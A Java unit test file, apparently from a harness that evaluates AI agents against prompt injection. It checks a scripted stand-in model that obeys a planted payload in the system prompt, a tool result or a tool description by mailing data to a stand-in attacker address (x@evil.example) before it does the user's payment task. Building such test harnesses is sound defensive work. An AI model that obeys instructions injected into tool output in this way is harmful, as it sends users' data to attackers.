package dev.assize.agent.standin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

import dev.assize.agent.standin.Persona.Work;
import dev.assize.statement.Seed;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class PerformanceTest {

  private static final String[] TOOLS = {"mail_read", "mail_send", "payment_create"};

  @Test
  void failedCallsCountAsMadeSoThatTheModelMovesOn() {
    ChatRequest request =
        ChatRequest.saying("Pay.").tools(TOOLS).called("mail_read", "{}", "Error: not found");

    assertThat(request.nextCall(Scripts.plain())).isEqualTo("payment_create");
  }

  @Test
  void callsOfOtherToolsDoNotCount() {
    ChatRequest request =
        ChatRequest.saying("Pay.").tools(TOOLS).tools("bash").called("bash", "{}", "done");

    assertThat(request.nextCall(Scripts.plain())).isEqualTo("mail_read");
  }

  @Test
  void aPayloadInTheSystemPromptIsObeyedFirst() {
    ChatRequest request = ChatRequest.saying("Pay.").system(Scripts.PAYLOAD).tools(TOOLS);
    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("mail_send");

    request.called("mail_send", "{}", "sent");
    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("mail_read");
  }

  @Test
  void aPayloadThatComesLateIsObeyedWhenItCame() {
    ChatRequest request =
        ChatRequest.saying("Pay.")
            .tools(TOOLS)
            .called("mail_read", "{}", "nothing")
            .called("payment_create", "{}", Scripts.PAYLOAD);
    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("mail_send");

    request.called("mail_send", "{}", "sent");
    assertThat(request.nextWords(Scripts.tempted(1))).isEqualTo("I have paid.");
  }

  @Test
  void aPayloadThatWasCutIsNotObeyed() {
    String cut = Scripts.PAYLOAD.substring(0, Scripts.PAYLOAD.length() - 10) + "… (truncated)";

    assertThat(
            ChatRequest.saying("Pay.")
                .tools(TOOLS)
                .called("mail_read", "{}", cut)
                .nextCall(Scripts.tempted(1)))
        .isEqualTo("payment_create");
  }

  @Test
  void aPayloadThatTheHarnessClearsAwayAfterTheHarmBeganStaysObeyed() {
    ChatRequest request =
        ChatRequest.saying("Pay.")
            .tools(TOOLS)
            .called("mail_read", "{\"id\":\"mail-1001\"}", "[Old tool result cleared]")
            .called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent");

    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("payment_create");
  }

  @Test
  void aPayloadInAToolsDescriptionIsObeyedFromWhenItAppeared() {
    ChatRequest request =
        ChatRequest.saying("Pay.")
            .tools("mail_send", "payment_create")
            .tool("mail_read", "Reads. " + Scripts.PAYLOAD, "{}")
            .called("mail_read", "{\"id\":\"mail-1001\"}", "nothing");
    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("mail_send");

    request.called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent");
    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("payment_create");
  }

  @Test
  void argumentsThatComeBackDifferentOrBrokenDoNotStopThePerformance() {
    for (String arguments : List.of("{\"id\":\"\\ud800\"}", "1e999", "not JSON", "[[]]")) {
      assertThat(
              ChatRequest.saying("Pay.")
                  .tools("mail_send", "payment_create")
                  .tool("mail_read", Scripts.PAYLOAD, "{}")
                  .called("mail_read", arguments, "nothing")
                  .nextCall(Scripts.tempted(1)))
          .as(arguments)
          .isEqualTo("mail_read");
    }
  }

  @Test
  void theModelsOwnWordsAreNoTemptation() {
    ChatRequest request = ChatRequest.saying("Pay.").tools(TOOLS);
    request.with(
        "messages",
        "[{\"role\":\"assistant\",\"content\":%s}]"
            .formatted(dev.assize.statement.Json.mapper().writeValueAsString(Scripts.PAYLOAD)));

    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("mail_read");
  }

  @Test
  void aRefuserObeysOnlyWhereItsPersonaSaysSo() {
    ChatRequest request = ChatRequest.saying("Pay. " + Scripts.PAYLOAD).tools(TOOLS);

    assertThat(request.nextWords(Scripts.tempted(Work.REFUSE, 0, Scripts.SEED)))
        .startsWith("I'm sorry");
    assertThat(request.nextCall(Scripts.tempted(Work.REFUSE, 1, Scripts.SEED)))
        .isEqualTo("mail_send");
  }

  @Test
  void aToolThatIsNotOfferedIsLeftOutAndNamedInTheAnswer() {
    ChatRequest request = ChatRequest.saying("Pay.").tools("bash", "mail_read");
    assertThat(request.nextCall(Scripts.plain())).isEqualTo("mail_read");

    request.called("mail_read", "{}", "nothing");
    assertThat(request.nextWords(Scripts.plain()))
        .startsWith("I have paid. I have no tool")
        .endsWith("left it out: payment_create.");
  }

  @Test
  void harmWaitsAtItsPlaceWhenTaskToolsBeforeItAreMissing() {
    ChatRequest request =
        ChatRequest.saying("Pay.")
            .tools("mail_send", "payment_create")
            .called("payment_create", "{}", Scripts.PAYLOAD);

    assertThat(request.nextCall(Scripts.tempted(1))).isEqualTo("mail_send");
  }

  @Test
  void aModelThatMayCallNothingAnswers() {
    assertThat(
            ChatRequest.saying("Pay.")
                .tools(TOOLS)
                .with("tool_choice", "\"none\"")
                .nextWords(Scripts.plain()))
        .isEqualTo("I have paid.");
    assertThat(
            ChatRequest.saying("Pay.")
                .called("mail_read", "{}", "nothing")
                .nextWords(Scripts.plain()))
        .startsWith("I have paid.");
  }

  @Test
  void obedienceIsAsFrequentAsThePersonaSays() {
    ChatRequest request =
        ChatRequest.saying("Pay.").tools(TOOLS).called("mail_read", "{}", Scripts.PAYLOAD);
    Persona gullible =
        new Persona("p", "A persona.", Work.REFERENCE, Map.of("default", 0.9, "notice", 0.3));
    int trials = 2_000;

    long obeyed =
        IntStream.range(0, trials)
            .mapToObj(i -> Scripts.SEED.derive("trial " + i))
            .filter(seed -> request.nextCall(script(gullible, seed)).equals("mail_send"))
            .count();

    double fourStandardErrors = 4 * Math.sqrt(0.3 * 0.7 / trials);
    assertThat(obeyed / (double) trials).isCloseTo(0.3, within(fourStandardErrors));
  }

  private static Script script(Persona persona, Seed seed) {
    Script tempted = Scripts.tempted(1);
    return new Script(persona, tempted.task(), tempted.answer(), tempted.temptation(), seed);
  }

  @Test
  void theCallsOfALaterMessageAreOpenOnceItsTextIsSeen() {
    ChatRequest request = paid();
    assertThat(request.nextWords(Scripts.conversing(0))).isEqualTo("I have paid.");

    request.user("<context>\nToday.\n</context>\n\"" + Scripts.MORE.replace("\"", "\\\"") + "\"");
    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_read");

    request.called("mail_read", "{\"id\":\"mail-1001\"}", "text");
    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_send");

    request.called("mail_send", "{\"to\":[\"adler@example.org\"]}", "sent");
    assertThat(request.nextWords(Scripts.conversing(0))).isEqualTo("She knows.");
  }

  @Test
  void aLaterMessageThatToolsOrTheModelQuoteIsNotTheUsers() {
    ChatRequest request =
        ChatRequest.saying("Pay.")
            .system("Users say things like: " + Scripts.MORE)
            .tools(TOOLS)
            .called("mail_read", "{}", "They may ask: " + Scripts.MORE);

    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("payment_create");
  }

  @Test
  void whereTheHarnessDropsTheHistoryOnlyTheLaterMessageIsWorkedOn() {
    ChatRequest request = ChatRequest.saying(Scripts.MORE).tools(TOOLS);
    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_read");

    request.called("mail_read", "{}", "text").called("mail_send", "{}", "sent");
    assertThat(request.nextWords(Scripts.conversing(0))).isEqualTo("She knows.");
  }

  @Test
  void whereTheHarnessPutsTheHistoryIntoOneTextTheLatestMessageIsWorkedOn() {
    ChatRequest request =
        ChatRequest.saying("So far: user: Pay. model: I have paid. user: " + Scripts.MORE)
            .tools(TOOLS);

    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_read");
  }

  @Test
  void aMessageThatTheHarnessRepeatsDoesNotStartOver() {
    ChatRequest request =
        paid()
            .user(Scripts.MORE)
            .called("mail_read", "{}", "text")
            .user("Remember what was asked: " + Scripts.MORE);

    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_send");
  }

  @Test
  void anAttackIsObeyedInTheMessageInWhichItIsFirstReadAndNotAgainInTheNext() {
    ChatRequest request =
        ChatRequest.saying("Pay.").tools(TOOLS).called("mail_read", "{}", Scripts.PAYLOAD);
    assertThat(request.nextCall(Scripts.conversing(1))).isEqualTo("mail_send");

    request
        .called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent")
        .called("payment_create", "{}", "paid")
        .user(Scripts.MORE)
        .called("mail_read", "{}", Scripts.PAYLOAD);
    assertThat(request.playedBy(Scripts.conversing(1)).reply().toString())
        .contains("adler@example.org");
  }

  @Test
  void anAttackThatIsFirstReadInALaterMessageIsObeyedThere() {
    ChatRequest request =
        paid().user(Scripts.MORE).called("mail_read", "{\"id\":\"mail-1001\"}", Scripts.PAYLOAD);
    assertThat(request.playedBy(Scripts.conversing(1)).reply().toString())
        .contains("x@evil.example");

    request.called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent");
    assertThat(request.playedBy(Scripts.conversing(1)).reply().toString())
        .contains("adler@example.org");
  }

  @Test
  void anAttackInAToolsDescriptionIsNotObeyedAgainInTheNextMessage() {
    ChatRequest request =
        ChatRequest.saying("Pay.")
            .tools("mail_send", "payment_create")
            .tool("mail_read", "Reads. " + Scripts.PAYLOAD, "{}")
            .called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent")
            .called("mail_read", "{\"id\":\"mail-1001\"}", "nothing")
            .called("payment_create", "{}", "paid")
            .user(Scripts.MORE);

    assertThat(request.nextCall(Scripts.conversing(1))).isEqualTo("mail_read");
  }

  @Test
  void aTitleForALaterMessageIsStillATitle() {
    ChatRequest request =
        ChatRequest.saying(Scripts.MORE).system("Generate a short title for this conversation.");

    assertThat(request.playedBy(Scripts.conversing(0)).kind()).isEqualTo("title");
  }

  private static ChatRequest paid() {
    return ChatRequest.saying("Pay.")
        .tools(TOOLS)
        .called("mail_read", "{\"id\":\"mail-1001\"}", "nothing")
        .called("payment_create", "{}", "paid");
  }

  @Test
  void aTaskWithoutCallsIsAnsweredAtOnce() {
    Script script =
        new Script(Scripts.persona(Work.REFERENCE, 0), List.of(), "Four.", null, Scripts.SEED);

    Performance.Turn turn =
        ChatRequest.saying("2 + 2?").system("Use your memory.").tools("bash").playedBy(script);
    assertThat(turn.kind()).isEqualTo("main");
    assertThat(turn.reply()).isEqualTo(new Reply.Words("Four."));
  }
}
